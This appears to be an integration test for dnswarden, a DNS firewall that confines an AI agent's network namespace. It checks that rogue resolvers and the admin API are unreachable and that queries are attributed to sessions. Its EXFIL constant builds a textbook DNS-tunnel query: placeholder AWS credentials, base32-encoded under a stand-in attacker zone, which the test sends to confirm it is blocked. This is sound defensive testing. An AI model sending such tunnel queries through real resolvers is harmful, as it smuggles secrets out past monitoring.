// The containment proof (issue 5), on a real Linux network stack: an agent network namespace, dnswarden started
// from the built CLI with a config file (as a user would), a real upstream DNS server behind it, and a rogue
// resolver the agent can reach — until deploy/iptables/dnswarden-confine.sh is applied to the agent's namespace.
// Then, from inside the agent: dnswarden answers (and knows the registered session by its source address),
// every other resolver is unreachable on UDP/TCP 53 (IPv4 and IPv6) and 853, dnswarden's own admin API is
// unreachable (only its DNS port is), an exfiltration-shaped query is
// blocked with an RFC 8914 EDE that dig shows, and after `remove` the rogue resolver answers again.
// Needs root and netns support: without them this file FAILS, saying what is missing (it never skips).
import { createSecretKey, randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { SignJWT } from 'jose';
import { afterAll, describe, expect, it } from 'vitest';
import { base32 } from '../../fixtures/corpora/generate.mjs';
import {
  assertNetnsCapable,
  createTopology,
  dig,
  NET,
  nsRun,
  run,
  startDaemon,
  startNsd,
  tcpConnect,
  waitOrStop,
  type Daemon,
  type Topology,
} from '../helpers/netns.js';

const CLI = resolve('dist/src/cli.js');
const SCRIPT = resolve('deploy/iptables/dnswarden-confine.sh');
const FIXTURES = resolve('test/netns/fixtures');
const BENIGN = 'www.corp-docs.example';
const UPSTREAM_ANSWER = '192.0.2.80'; // upstream.zone: the answer that can only come through dnswarden
const ROGUE_ANSWER = '198.51.100.66'; // rogue.zone: the answer that can only come from the rogue resolver

// A 63-character base32 label (the longest a label may be) carrying a "secret", under the attacker's zone:
// the textbook DNS-tunnel query. The attacker's zone has a wildcard, so anything not blocked would be answered.
const EXFIL_LABEL = base32(Buffer.from('AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY')).slice(0, 63);
const EXFIL = `${EXFIL_LABEL}.exfil-sink.example`;

const adminToken = `netns-admin-${randomBytes(16).toString('hex')}`;
const runtimeToken = `netns-runtime-${randomBytes(16).toString('hex')}`;
const signingSecret = randomBytes(32).toString('hex');

let topo: Topology | undefined;
let dir: string | undefined;
let ready = false;
const daemons: Daemon[] = [];

function ns(): Topology['ns'] {
  if (topo === undefined || !ready) throw new Error('the proof network was not built (see the first test\'s error)');
  return topo.ns;
}

/** An admin API call made from inside the warden namespace (the admin API listens on its loopback). */
async function admin(method: string, path: string, token: string, body?: unknown): Promise<{ status: number; json: unknown }> {
  const script = `
    const [method, url, token, body] = process.argv.slice(1);
    const res = await fetch(url, { method, headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
      body: body === '' ? undefined : body, signal: AbortSignal.timeout(5000) });
    const text = await res.text();
    console.log(JSON.stringify({ status: res.status, text }));`;
  const r = await nsRun(ns().warden, process.execPath, ['--input-type=module', '-e', script, method, `http://127.0.0.1:9153${path}`, token, body === undefined ? '' : JSON.stringify(body)]);
  if (r.code !== 0) throw new Error(`admin ${method} ${path} failed: ${r.stderr}`);
  const { status, text } = JSON.parse(r.stdout) as { status: number; text: string };
  return { status, json: text === '' ? undefined : (JSON.parse(text) as unknown) };
}

function confine(action: 'apply' | 'remove' | 'status'): ReturnType<typeof run> {
  const args = [action, '--netns', ns().agent];
  if (action === 'apply') args.push('--dnswarden', `${NET.agentGw},${NET.agentGw6}`);
  return run(SCRIPT, args);
}

function dropCounter(statusOutput: string): number {
  const m = /counter packets (\d+) bytes \d+ drop/.exec(statusOutput);
  if (m === null) throw new Error(`no drop counter in:\n${statusOutput}`);
  return Number(m[1]);
}

// Setup is a test of its own, not a beforeAll: when this machine cannot build the network (no root, no netns,
// a tool missing) that test fails saying so, and every later test fails too (ns() throws) instead of being
// reported as skipped.
async function buildProofNetwork(): Promise<void> {
  await assertNetnsCapable(['ip', 'nft', 'dig', 'nsd', 'timeout', 'bash']);
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run \`npm run build\` first (npm test does)`);

  topo = await createTopology();
  const { upstream, rogue } = topo.ns;
  daemons.push(
    await startNsd('upstream-nsd', upstream, [NET.upstream], [
      { name: 'corp-docs.example', file: join(FIXTURES, 'upstream.zone') },
      { name: 'exfil-sink.example', file: join(FIXTURES, 'exfil.zone') },
    ], { server: NET.upstream, name: BENIGN }),
  );
  daemons.push(
    await startNsd('rogue-nsd', rogue, [`${NET.rogue}@53`, `${NET.rogue}@853`, `${NET.rogue6}@53`], [
      { name: 'corp-docs.example', file: join(FIXTURES, 'rogue.zone') },
    ], { server: NET.rogue, name: BENIGN }),
  );

  dir = mkdtempSync(join(tmpdir(), 'dnswarden-netns-'));
  writeFileSync(join(dir, 'runtime-token'), `${runtimeToken}\n`);
  writeFileSync(join(dir, 'runtime-hs256'), `${signingSecret}\n`);
  const config = join(dir, 'dnswarden.yaml');
  writeFileSync(
    config,
    `# written by test/netns/containment.test.ts
listen:
  dns: ["${NET.agentGw}:53"]
  admin: "[::]:9153"
admin:
  token: "${adminToken}"
  tokens:
    - name: agent-runtime
      kind: runtime
      token_file: "${join(dir, 'runtime-token')}"
storage:
  dir: "${join(dir, 'store')}"
upstreams:
  - address: "${NET.upstream}:53"
sessions:
  static:
    - id: agent-1
      addresses: ["${NET.agent}/32"]
      type: batch
      user: alice
      role: researcher
  signing_keys:
    - kid: runtime-1
      alg: HS256
      secret_file: "${join(dir, 'runtime-hs256')}"
policy:
  mode: enforce
logging:
  level: info
`,
  );
  const check = await run(process.execPath, [CLI, 'check-config', config]);
  expect(check.code, `check-config: ${check.stdout}${check.stderr}`).toBe(0);

  const warden = startDaemon('dnswarden', topo.ns.warden, process.execPath, [CLI, 'serve', '--config', config]);
  daemons.push(warden);
  await waitOrStop(warden, warden.waitFor('"dnswarden ready" log line', () => warden.output.includes('"msg":"dnswarden ready"'), 20_000));
  ready = true;
}

afterAll(async () => {
  for (const d of daemons.splice(0).reverse()) await d.stop();
  await topo?.destroy(); // deleting the namespaces deletes their veths and nft rules with them
  if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
}, 30_000);

describe('an agent confined by dnswarden-confine.sh, in real network namespaces', () => {
  it('builds the proof network: namespaces, veths, upstream and rogue NSD, dnswarden from the built CLI', async () => {
    await buildProofNetwork();
    expect(topo).toBeDefined();
  }, 60_000);

  it('without the rules, the agent reaches the rogue resolver directly (precondition)', async () => {
    expect((await dig(ns().agent, [`@${NET.rogue}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect((await dig(ns().agent, ['+tcp', `@${NET.rogue}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect((await dig(ns().agent, [`@${NET.rogue6}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect(await tcpConnect(ns().agent, NET.rogue, 853)).toBe('connected');
    // dnswarden's admin API listens on every address of its host, as in a container: reachable until confined.
    expect(await tcpConnect(ns().agent, NET.agentGw, 9153)).toBe('connected');
    expect(await tcpConnect(ns().agent, NET.agentGw6, 9153)).toBe('connected');
  });

  it('apply confines DNS; dnswarden answers a benign name, attributed to the session registered for the source address', async () => {
    const applied = await confine('apply');
    expect(applied.code, applied.stderr).toBe(0);
    expect((await confine('status')).code).toBe(0);

    const reply = await dig(ns().agent, [`@${NET.agentGw}`, BENIGN, 'A']);
    expect(reply.status).toBe('NOERROR');
    expect(reply.addresses).toEqual([UPSTREAM_ANSWER]);

    // dnswarden recorded the query under agent-1, the session whose address (10.200.1.2) it came from.
    const history = await admin('GET', '/v1/sessions/agent-1/queries', adminToken);
    expect(history.status).toBe(200);
    const queries = (history.json as { queries: Array<{ name: string; action: string }> }).queries;
    expect(queries.map((q) => q.name)).toContain(BENIGN);

    // The same agent from an address with no session is refused, saying why: the source address is the key.
    const refused = await dig(ns().agent, ['-b', NET.agentUnregistered, `@${NET.agentGw}`, BENIGN, 'A']);
    expect(refused.status).toBe('REFUSED');
    expect(refused.ede).toMatch(/^18 \(Prohibited\)/);
  });

  it('the agent runtime registers a session for an address with a signed token, and ends it', async () => {
    const token = await new SignJWT({
      sid: 'agent-2', user: 'bob', role: 'researcher', session_type: 'interactive', addresses: [`${NET.agentUnregistered}/32`],
    })
      .setProtectedHeader({ alg: 'HS256', kid: 'runtime-1' })
      .setExpirationTime('5m')
      .sign(createSecretKey(Buffer.from(signingSecret, 'utf8')));
    const registered = await admin('POST', '/v1/sessions', runtimeToken, { token });
    expect(registered.status).toBe(201);

    const answered = await dig(ns().agent, ['-b', NET.agentUnregistered, `@${NET.agentGw}`, BENIGN, 'A']);
    expect(answered.status).toBe('NOERROR');
    expect(answered.addresses).toEqual([UPSTREAM_ANSWER]);

    expect((await admin('DELETE', '/v1/sessions/agent-2', runtimeToken)).status).toBe(204);
    expect((await dig(ns().agent, ['-b', NET.agentUnregistered, `@${NET.agentGw}`, BENIGN, 'A'])).status).toBe('REFUSED');
  });

  it('the rules drop DNS to any other resolver: UDP 53, TCP 53, IPv6 53, and TCP 853 get no answer', async () => {
    const before = dropCounter((await confine('status')).stdout);

    for (const args of [[`@${NET.rogue}`], ['+tcp', `@${NET.rogue}`], [`@${NET.rogue6}`]]) {
      const r = await dig(ns().agent, [...args, BENIGN, 'A']);
      expect(r.status, `dig ${args.join(' ')} got a reply:\n${r.stdout}`).toBeUndefined();
      expect(r.code).toBe(9); // dig: no reply from the server
      expect(`${r.stdout}${r.stderr}`).toMatch(/timed out/); // dropped, not refused
    }
    expect(await tcpConnect(ns().agent, NET.rogue, 853)).toBe('timeout');

    // The script's drop rule is what stopped them: its counter saw at least one packet per attempt.
    expect(dropCounter((await confine('status')).stdout) - before).toBeGreaterThanOrEqual(4);
  });

  it('the agent reaches dnswarden only on its DNS port: a TCP connect to the admin API is refused', async () => {
    expect(await tcpConnect(ns().agent, NET.agentGw, 9153)).toBe('refused');
    expect(await tcpConnect(ns().agent, NET.agentGw6, 9153)).toBe('refused');
    // while DNS to the same address still works, over UDP and TCP
    expect((await dig(ns().agent, [`@${NET.agentGw}`, BENIGN, 'A'])).addresses).toEqual([UPSTREAM_ANSWER]);
    expect((await dig(ns().agent, ['+tcp', `@${NET.agentGw}`, BENIGN, 'A'])).addresses).toEqual([UPSTREAM_ANSWER]);
    // and from dnswarden's own host the admin API still answers (the runtime and analysts reach it there)
    expect((await admin('GET', '/v1/sessions', adminToken)).status).toBe(200);
  });

  it('an exfiltration-shaped query through dnswarden is blocked, and dig shows the EDE naming the rule', async () => {
    expect(EXFIL_LABEL).toHaveLength(63);
    const r = await dig(ns().agent, [`@${NET.agentGw}`, EXFIL, 'A']);
    expect(r.status).toBe('NXDOMAIN');
    expect(r.addresses).toEqual([]);
    // e.g. "; EDE: 15 (Blocked): (threshold: ... (evt-...))"
    expect(r.ede).toMatch(/^15 \(Blocked\): \((threshold|accumulation|quarantined)\b.+\)$/);
  });

  it('after remove, the rogue resolver answers again: the script was what blocked it', async () => {
    const removed = await confine('remove');
    expect(removed.code, removed.stderr).toBe(0);
    expect((await confine('status')).code).toBe(1);

    expect((await dig(ns().agent, [`@${NET.rogue}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect((await dig(ns().agent, ['+tcp', `@${NET.rogue}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect((await dig(ns().agent, [`@${NET.rogue6}`, BENIGN, 'A'])).addresses).toEqual([ROGUE_ANSWER]);
    expect(await tcpConnect(ns().agent, NET.rogue, 853)).toBe('connected');
    expect(await tcpConnect(ns().agent, NET.agentGw, 9153)).toBe('connected');
  });
});
